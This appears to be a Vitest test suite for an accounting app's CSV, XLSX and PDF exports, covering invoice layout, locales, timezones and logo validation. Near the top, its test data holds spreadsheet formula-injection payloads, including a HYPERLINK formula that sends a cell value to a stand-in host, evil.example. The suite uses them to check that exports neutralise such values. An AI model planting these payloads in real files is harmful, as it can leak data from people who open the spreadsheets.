import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCustomer, createOrder, createProduct } from '../../test/fixtures.ts';
import { addEmployee, type OnboardedCompany, onboardCompany } from '../../test/onboarding.ts';
import { pdfText } from '../../test/pdf-text.ts';
import { createTestApp, type TestApp } from '../../test/test-app.ts';
import { neutralisedCell } from './export.ts';

// 20:30 UTC on 7 December is already 03:30 on 8 December in Jakarta.
const PINNED = new Date('2026-12-07T20:30:00Z');
const injections = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?x="&A1,"Click")'];
// A 1×1 PNG.
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

let t: TestApp;
let owner: OnboardedCompany;

beforeAll(async () => {
  t = await createTestApp({}, { now: () => PINNED });
  owner = await onboardCompany(t.api, t.mail, {
    name: 'PT Kopi Gunung Jaya',
    currency: 'IDR',
    timezone: 'Asia/Jakarta',
    locale: 'id-ID',
  });
});
afterAll(() => t.close());

const get = (url: string) => t.api.get(url, { token: owner.token });
const raw = (url: string) => t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${owner.token}` } });
/** RFC 4180 rows: quoted fields may hold commas, doubled quotes and line breaks. */
function csvRows(body: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const text = body.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && (ch === ',' || ch === '\n')) {
      row.push(field);
      field = '';
      if (ch === '\n') {
        rows.push(row);
        row = [];
      }
    } else {
      field += ch;
    }
  }
  return rows;
}

describe('CSV formula injection', () => {
  beforeAll(async () => {
    const product = await createProduct(t.api, owner);
    for (const name of injections) {
      const customer = await createCustomer(t.api, owner, { name, phone: '+62 21 555 0100' });
      await createOrder(t.api, owner, customer.id, [{ productId: product.id, quantity: '1' }]);
    }
  });

  it('neutralises names that a spreadsheet would run, in the customer list', async () => {
    const csv = await get('/api/customers/export?format=csv');
    expect(csv.status).toBe(200);
    const rows = csvRows(csv.body);
    const names = rows.slice(1).map((row) => row[rows[0]!.indexOf('Nama')]);
    expect(names.sort()).toEqual(injections.map((name) => `'${name}`).sort());
    // A phone number starting with + is text too, so it is escaped the same way.
    expect(rows.slice(1).map((row) => row[rows[0]!.indexOf('Telepon')])).toContain("'+62 21 555 0100");
  });

  it('neutralises them in the sales order list as well', async () => {
    const csv = await get('/api/sales-orders/export?format=csv');
    const rows = csvRows(csv.body);
    const customers = rows.slice(1).map((row) => row[rows[0]!.indexOf('Pelanggan')]);
    expect(customers.sort()).toEqual(injections.map((name) => `'${name}`).sort());
    for (const row of rows.slice(1)) expect(row[rows[0]!.indexOf('Total')]).toBe('10');
  });

  it('keeps numbers as numbers, negative ones included', () => {
    expect(neutralisedCell(-1250.5)).toBe(-1250.5);
    expect(neutralisedCell('-1250.50')).toBe('-1250.50');
    expect(neutralisedCell('-1+1')).toBe("'-1+1");
    expect(neutralisedCell('\tcmd')).toBe("'\tcmd");
    expect(neutralisedCell('\rcmd')).toBe("'\rcmd");
    expect(neutralisedCell('Kopi = enak')).toBe('Kopi = enak');
    expect(neutralisedCell(null)).toBe('');
  });

  it('writes them to XLSX as text cells, never as formulas', async () => {
    const xlsx = await raw('/api/customers/export?format=xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const names: unknown[] = [];
    sheet.getColumn(2).eachCell((cell, row) => {
      if (row === 1) return;
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      names.push(cell.value);
    });
    expect(names.sort()).toEqual([...injections].sort());
  });
});

describe('file names and print stamps', () => {
  it('names files with the company’s date, not the UTC date', async () => {
    for (const format of ['csv', 'xlsx', 'pdf']) {
      const file = await get(`/api/customers/export?format=${format}`);
      expect(file.headers['content-disposition']).toBe(`attachment; filename="customers-2026-12-08.${format}"`);
    }
  });

  it('prints a list with the company’s name, the report’s name and the company’s time', async () => {
    const pdf = await raw('/api/customers/export?format=pdf');
    const text = pdfText(pdf.rawPayload);
    expect(text).toContain('PT Kopi Gunung Jaya');
    expect(text).toContain('Pelanggan');
    expect(text).not.toContain('customers');
    expect(text).toContain('dicetak 8 Desember 2026 pukul 03.30 WIB');
  });

  it('writes the dates of a report title in the company’s locale', async () => {
    const pdf = await raw('/api/accounting/reports/trial-balance/export?from=2026-01-01&to=2026-12-31&format=pdf');
    expect(pdf.statusCode).toBe(200);
    const text = pdfText(pdf.rawPayload);
    expect(text).toContain('Neraca saldo 1 Januari 2026 – 31 Desember 2026');
    expect(text).toContain('PT Kopi Gunung Jaya');
  });
  it('writes timestamps at the company’s offset in CSV, and on its clocks in PDF', async () => {
    const product = await createProduct(t.api, owner, { stock: '5' });
    const csv = await get(`/api/inventory/moves/export?format=csv&productId=${product.id}`);
    const rows = csvRows(csv.body);
    const posted = rows[1]![rows[0]!.indexOf('Diposting')]!;
    expect(posted).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00$/);
    const pdf = pdfText((await raw(`/api/inventory/moves/export?format=pdf&productId=${product.id}`)).rawPayload);
    expect(pdf).toMatch(/\d{1,2} \p{L}+ \d{4} pukul \d{2}\.\d{2} WIB/u);
    expect(pdf).toContain('Riwayat mutasi stok');
  });
});

describe('letterhead', () => {
  it('is kept in company settings and refused when malformed', async () => {
    const put = (url: string, body: unknown, token = owner.token) => t.api.put(url, body, { token });
    expect((await get('/api/company/letterhead')).body).toMatchObject({
      addressLine: null,
      bankAccounts: [],
      logo: null,
    });
    const bad = await put('/api/company/letterhead', { country: 'Indonesia', email: 'nope' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.details.fields.map((f: { path: string }) => f.path).sort()).toEqual(['country', 'email']);

    const member = await addEmployee(t.api, t.mail, owner);
    expect((await put('/api/company/letterhead', {}, member.token)).status).toBe(403);

    expect((await put('/api/company/logo', { image: 'data:image/gif;base64,R0lGODlh' })).status).toBe(400);
    const notPng = await put('/api/company/logo', {
      image: `data:image/png;base64,${Buffer.from('hello').toString('base64')}`,
    });
    expect(notPng.body.error.code).toBe('invalid_logo');
    const broken = await put('/api/company/logo', { image: PNG.slice(0, 60) });
    expect(broken.status).toBe(400);
    const tooBig = Buffer.concat([Buffer.from('89504e47', 'hex'), Buffer.alloc(210 * 1024)]);
    expect(
      (await put('/api/company/logo', { image: `data:image/png;base64,${tooBig.toString('base64')}` })).status,
    ).toBe(400);
    const logo = await put('/api/company/logo', { image: PNG });
    expect(logo.status, JSON.stringify(logo.body)).toBe(200);
    expect(logo.body.logo).toBe(PNG);

    const audit = await get(`/api/audit?entity=company_setting&id=${owner.tenantId}`);
    const logoChange = audit.body.items.find((e: { after: Record<string, unknown> }) => 'company.logo' in e.after);
    expect(logoChange.after['company.logo']).toMatchObject({ bytes: PNG.length });
  });
});

describe('invoice PDF', () => {
  let customerId: string;
  let invoiceId: string;

  beforeAll(async () => {
    const saved = await t.api.request(
      'PUT',
      '/api/company/letterhead',
      {
        addressLine: 'Jl. Sudirman Kav. 52-53\nGedung Kopi Lt. 7',
        city: 'Jakarta Selatan',
        postalCode: '12190',
        country: 'ID',
        phone: '+62 21 555 0199',
        email: 'finance@kopigunung.co.id',
        taxId: '01.234.567.8-012.000',
        bankAccounts: [
          { bankName: 'Bank Central Asia', accountNumber: '123 456 7890', accountHolder: 'PT Kopi Gunung Jaya' },
        ],
        paymentNote: 'Transfer fees are paid by the sender.',
      },
      { token: owner.token },
    );
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    const customer = await createCustomer(t.api, owner, {
      name: 'Hotel Bumi Asri',
      addressLine: 'Jl. Asia Afrika 81',
      city: 'Bandung',
      postalCode: '40111',
      country: 'ID',
      taxId: '02.345.678.9-423.000',
      paymentTermsDays: 30,
    });
    customerId = customer.id;
    const invoice = await t.api.post(
      '/api/customer-invoices',
      {
        customerId,
        invoiceDate: '2026-12-07',
        lines: [{ description: 'Kopi Arabika Gayo 1 kg', quantity: '4.5', unitPrice: '298000', taxRate: '11' }],
      },
      { token: owner.token },
    );
    expect(invoice.status, JSON.stringify(invoice.body)).toBe(201);
    invoiceId = invoice.body.id;
    expect(
      (await t.api.post(`/api/customer-invoices/${invoiceId}/post`, undefined, { token: owner.token })).status,
    ).toBe(200);
  });

  it('is a document to send: seller, buyer, terms, amounts and dates in the company’s locale', async () => {
    const pdf = await raw(`/api/customer-invoices/${invoiceId}/pdf`);
    expect(pdf.statusCode).toBe(200);
    const text = pdfText(pdf.rawPayload);
    for (const expected of [
      'PT Kopi Gunung Jaya',
      'Jl. Sudirman Kav. 52-53',
      'Gedung Kopi Lt. 7',
      'Jakarta Selatan 12190',
      'NPWP: 01.234.567.8-012.000',
      'Hotel Bumi Asri',
      'Jl. Asia Afrika 81',
      'Bandung 40111',
      'NPWP: 02.345.678.9-423.000',
      'Tanggal faktur 7 Desember 2026',
      'Jatuh tempo 6 Januari 2027',
      'Syarat pembayaran 30 hari',
      'Rp 298.000',
      'Rp 1.341.000',
      'Rp 147.510',
      'FAKTUR',
      'Uraian Kuantitas Harga satuan Diskon Jumlah PPN Nilai PPN',
      'Subtotal Rp 1.341.000',
      'PPN Rp 147.510',
      'Total Rp 1.488.510',
      'Sisa tagihan Rp 1.488.510',
      'Terbilang: Satu juta empat ratus delapan puluh delapan ribu lima ratus sepuluh rupiah',
      '4,5',
      'Bank Central Asia',
      '123 456 7890',
      'Atas nama: PT Kopi Gunung Jaya',
      'Transfer fees are paid by the sender.',
      'Halaman 1 dari 1',
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).not.toContain('2026-12-07');
  });

  it('follows a change of the company’s locale', async () => {
    expect((await t.api.patch('/api/company', { locale: 'en-GB' }, { token: owner.token })).status).toBe(200);
    try {
      const text = pdfText((await raw(`/api/customer-invoices/${invoiceId}/pdf`)).rawPayload);
      expect(text).toContain('Invoice date 7 December 2026');
      expect(text).toContain('Payment terms Net 30 days');
      expect(text).toContain('Tax ID: 01.234.567.8-012.000');
      expect(text).toContain('IDR 1,488,510');
      expect(text).toContain('INVOICE');
      expect(text).toContain('Description Qty Unit price Disc. Amount VAT VAT amount');
      expect(text).toContain('Amount due IDR 1,488,510');
      expect(text).toContain('Page 1 of 1');
      expect(text).not.toMatch(/Faktur|Jatuh tempo|Halaman/);
    } finally {
      await t.api.patch('/api/company', { locale: 'id-ID' }, { token: owner.token });
    }
  });

  it('prints the statement of account on the letterhead', async () => {
    const pdf = await raw(`/api/customers/${customerId}/statement?from=2026-12-01&to=2026-12-31&format=pdf`);
    expect(pdf.statusCode).toBe(200);
    const text = pdfText(pdf.rawPayload);
    expect(text).toContain('LAPORAN PIUTANG');
    expect(text).toContain('NPWP: 01.234.567.8-012.000');
    expect(text).toContain('Bandung 40111');
    expect(text).toContain('1 Desember 2026 – 31 Desember 2026');
    expect(text).toContain('Saldo tagihan Rp 1.488.510');
  });

  it('prints the credit note of a cancelled invoice, and marks the invoice cancelled', async () => {
    const cancelled = await t.api.post(
      `/api/customer-invoices/${invoiceId}/cancel`,
      { reason: 'Wrong quantity', creditDate: '2026-12-09' },
      { token: owner.token },
    );
    expect(cancelled.status, JSON.stringify(cancelled.body)).toBe(200);
    const invoiceText = pdfText((await raw(`/api/customer-invoices/${invoiceId}/pdf`)).rawPayload);
    expect(invoiceText).toContain('DIBATALKAN');
    const credit = pdfText((await raw(`/api/customer-invoices/${cancelled.body.creditNoteId}/pdf`)).rawPayload);
    expect(credit).toContain('NOTA KREDIT');
    expect(credit).toContain(`Mengkredit faktur ${cancelled.body.number}`);
    expect(credit).toContain('Tanggal 9 Desember 2026');
    expect(credit).toContain('Total Rp 1.488.510');
    expect(credit).not.toContain('Mohon bayar');
  });
});

describe('printed lists in the company’s language', () => {
  /** A company with an order partly delivered: the state a list used to print as its code. */
  async function companyWithPartlyDeliveredOrder(locale: string) {
    const company = await onboardCompany(t.api, t.mail, { currency: 'IDR', timezone: 'Asia/Jakarta', locale });
    const product = await createProduct(t.api, company, { stock: '5' });
    const customer = await createCustomer(t.api, company);
    const order = await createOrder(t.api, company, customer.id, [{ productId: product.id, quantity: '3' }]);
    const as = { token: company.token };
    expect((await t.api.post(`/api/sales-orders/${order.id}/confirm`, undefined, as)).status).toBe(200);
    const delivered = await t.api.post(
      `/api/sales-orders/${order.id}/deliveries`,
      { lines: [{ lineId: order.lines[0]!.id, quantity: '1' }] },
      as,
    );
    expect(delivered.status, JSON.stringify(delivered.body)).toBe(201);
    const pdf = await t.app.inject({
      url: '/api/sales-orders/export?format=pdf',
      headers: { authorization: `Bearer ${company.token}` },
    });
    const csv = await t.api.get('/api/sales-orders/export?format=csv', as);
    return { text: pdfText(pdf.rawPayload), csv: csvRows(String(csv.body)) };
  }

  it('writes an Indonesian company’s list in Bahasa Indonesia, states by their names', async () => {
    const { text, csv } = await companyWithPartlyDeliveredOrder('id-ID');
    expect(text).toContain('Pesanan penjualan');
    expect(text).toContain('Nomor Tanggal Pelanggan Status Mata uang Total');
    expect(text).toContain('Terkirim sebagian');
    expect(text).toMatch(/1 baris · dicetak 8 Desember 2026 pukul 03\.30 WIB/);
    expect(text).toContain('Halaman 1 dari 1');
    expect(text).not.toContain('partially_delivered');
    // The file for machines keeps the code, under a header in the company's language.
    expect(csv[0]).toEqual(['Nomor', 'Tanggal', 'Pelanggan', 'Status', 'Mata uang', 'Total']);
    expect(csv[1]![3]).toBe('partially_delivered');
  });

  it('writes any other company’s list in English', async () => {
    const { text, csv } = await companyWithPartlyDeliveredOrder('en-US');
    expect(text).toContain('Sales orders');
    expect(text).toContain('Number Date Customer State Currency Total');
    expect(text).toContain('Partially delivered');
    expect(text).toMatch(/1 row · printed December 8, 2026/);
    expect(text).toContain('Page 1 of 1');
    expect(text).not.toContain('partially_delivered');
    expect(csv[0]).toEqual(['Number', 'Date', 'Customer', 'State', 'Currency', 'Total']);
  });
});
